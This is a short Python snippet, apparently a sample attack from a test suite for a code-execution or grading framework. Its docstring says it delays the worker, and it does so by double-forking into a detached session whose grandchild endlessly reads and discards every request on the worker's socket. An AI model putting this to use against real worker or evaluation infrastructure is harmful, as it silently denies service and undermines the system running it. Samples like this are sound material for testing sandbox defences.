"""attack: A child of its own session takes every request from the worker's socket, so that the worker never gets one.
class: framework
aim: delay
given: channel
"""

if channel and os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while channel.recv(2**16):
            pass
    os._exit(0)
